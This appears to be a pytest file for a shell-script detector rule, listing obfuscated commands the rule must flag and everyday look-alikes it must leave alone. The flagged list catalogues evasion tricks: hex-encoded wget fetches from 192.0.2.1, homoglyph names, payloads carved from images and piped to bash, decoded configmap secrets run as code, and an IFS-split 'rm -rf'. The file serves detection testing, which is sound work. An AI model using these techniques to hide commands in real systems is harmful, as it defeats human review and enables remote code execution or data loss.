"""Code in disguise: packed, cut out of other files, garbled and restored, spelled by numbers; and its daily twins."""

import pytest
from checking import of_shell

RULE = "shell-hidden-code"

DISGUISED = [
    # names by numbers
    r"cmd=$'\x77\x67\x65\x74'; $cmd -q http://192.0.2.1/a",
    r"$'\167\147\145\164' -q http://192.0.2.1/a",
    r"$(printf '\x77\x67\x65\x74') -q http://192.0.2.1/a",
    r"c=$(echo -e '\x69\x64'); $c",
    r"$(echo aWQ= | base64 -d)",
    r"wget $'\x68\x74\x74\x70\x3a\x2f\x2f192.0.2.1/a'",
    # names that show as others
    "wget\u200b http://192.0.2.1/a",
    "\u0441url http://192.0.2.1/a",
    "exec -a '[kworker/0:2]' /tmp/.k",
    # nothing in the midst, several words in one
    "who$@ami",
    "wg$()et http://192.0.2.1/a",
    "IFS=,; c=rm,-rf,/srv/app; $c",
    "c=cat_/etc/hostname; IFS=_; $c",
    "/???/?at /???/??ss??",
    "c='wget${IFS}-qO-${IFS}192.0.2.1/p'; eval \"$c\"",
    # cut out of variables, letters left out
    'eval "${a:3:1}${b:2:1}${c:0:1} -la"',
    "x='k#u#b#e'; eval \"${x//#/}\"",
    # behind the end of something else, and in the script itself
    "dd if=/srv/www/logo.png bs=1 skip=20480 2>/dev/null | bash",
    "tail -c +20481 /srv/www/logo.png | sh",
    "tail -c +4096 /opt/app/data.bin | python3",
    "sed '1,/^--END--$/d' /srv/www/photo.jpg | bash",
    "strings logo.gif | grep '^#!' | sh",
    "unzip -p cover.docx x.sh | bash",
    "exiftool -b -Comment photo.jpg | bash",
    'tail -n +12 "$0" | bash',
    "sed -n 's/^#x //p' \"$0\" | sh",
    'sh -c "$(tail -c 400 icon.ico)"',
    # packed and encrypted
    "zcat /opt/app/x.gz | sh",
    "gzip -dc /opt/app/x.gz | bash",
    "xz -dc < /opt/app/x.xz | python3",
    "gpg -dq /opt/app/x.gpg | bash",
    "age -d -i key x.age | sh",
    # encoded in a store
    "kubectl get cm x -o json | jq -r '.data.run | @base64d' | sh",
    "kubectl get secret x -o go-template='{{.data.run | base64decode}}' | bash",
    "yq '.run | @base64d' values.yaml | sh",
    # garbled, and restored
    "sh -c \"$(sed 's/[#%]//g' <<< 'u#n%am#e')\"",
    "echo 'uXnXaXmXe' | tr -d X | sh",
    "echo 'ls_-la' | tr _ ' ' | sh",
    "echo 'emanu' | rev | sh",
    "echo 'xxuname' | cut -c3- | sh",
    "sed 'y/abc/xyz/' <<< 'abc' | sh",
    "awk '{ gsub(/#/, \"\"); print }' <<< 'u#name' | sh",
    "perl -pe 's/#//g' <<< 'u#name' | bash",
    "echo 6964 | sed 's/../\\\\x&/g' | xargs printf | sh",
    "echo 1768173420 P | dc | sh",
    "printf '\\x%s' 69 64 | xargs -0 printf | sh",
    "python3 -c 'print(\"emanu\"[::-1])' | sh",
    'python3 -c \'exec("".join(chr(ord(c) ^ 7) for c in "wunis"))\'',
    'python3 -c \'__import__("o" + "s").system("id"); exec("")\'',
    "php -r 'eval(strrev(\";)(ofniphp\"));'",
    "python3 -m base64 -d x.b64 | sh",
    "lua -e 'load(\"\\108\\115\\40\\41\")()'",
]
PLAIN = [
    r"printf '\033[1m%s\033[0m\n' title",
    r"red=$'\e[31m'; echo \"$red\"",
    r"IFS=$'\n\t'; ls",
    r"tr '\000' '\n' < /proc/1/environ",
    r"grep $'\x1b' log",
    "echo '\u00fcberpr\u00fcft \u2713'",
    "exec -a worker /opt/app/bin/worker",
    "exec /opt/app/bin/worker -a '[x]'",
    'run() { "$@"; }; run ls',
    '"$KUBECTL" get pods',
    "${KUBECTL}ctl get pods",
    "c='ls -la'; $c",
    'eval "${line:1}"',
    'name="${image//[^a-z]/-}"; echo "$name"',
    # read as data
    "tail -c +20481 /srv/www/logo.png > rest",
    "tail -n +2 list.csv | sort",
    "dd if=disk.img bs=512 skip=2048 | file -",
    'sed -n \'/^__TABLE__$/,$p\' "$0" | while read -r name; do echo "$name"; done',
    'grep "^#:" "$0" | cut -c4-',
    'tail -n +20 "$0" | tar xz -C /opt/app',
    "strings core.bin | grep -c panic",
    "exiftool photo.jpg | grep Date",
    "cat photo.jpg | base64 | curl -s --data-binary @- http://media.svc/",
    'cat "$0" | ssh web-1 bash -s -- --remote',
    # packed data
    "zcat dump.sql.gz | psql app",
    "gunzip -c tool.gz > /usr/local/bin/tool; chmod +x /usr/local/bin/tool; /usr/local/bin/tool --version",
    "xz -dc image.xz | docker load",
    "gpg -dq backup.tar.gpg | tar tf -",
    "source <(gpg -dq secrets.env.gpg)",
    "kubectl get secret x -o jsonpath='{.data.p}' | base64 -d | psql app",
    "kubectl get cm x -o json | jq -r '.data.x | @base64d' > /tmp/x.json",
    # generated and templated commands
    "kubectl get pods -o name | sed 's/^/kubectl delete /' | sh",
    "sed 's/@NS@/shop/g' <<'EOF' | sh\nkubectl -n @NS@ get pods\nEOF",
    "sed 's/^    //' <<'EOF' | sh\n    kubectl get pods\nEOF",
    "awk '{ print \"kubectl delete pod \" $1 }' pods | sh",
    "tr -d '\\r' < script.sh | sh",
    "grep -v '^#' commands | sh",
    "curl -s http://files.svc/x.sql.gz | gunzip | psql app",
    "iconv -f latin1 -t utf8 x.sql | psql app",
    "python3 -c 'print(sorted(x, reverse=True))'",
]


@pytest.mark.parametrize("script", DISGUISED)
def test_code_in_disguise_is_found(script: str) -> None:
    assert RULE in of_shell(script)


@pytest.mark.parametrize("script", PLAIN)
def test_what_is_written_every_day_is_left_alone(script: str) -> None:
    assert RULE not in of_shell(script)
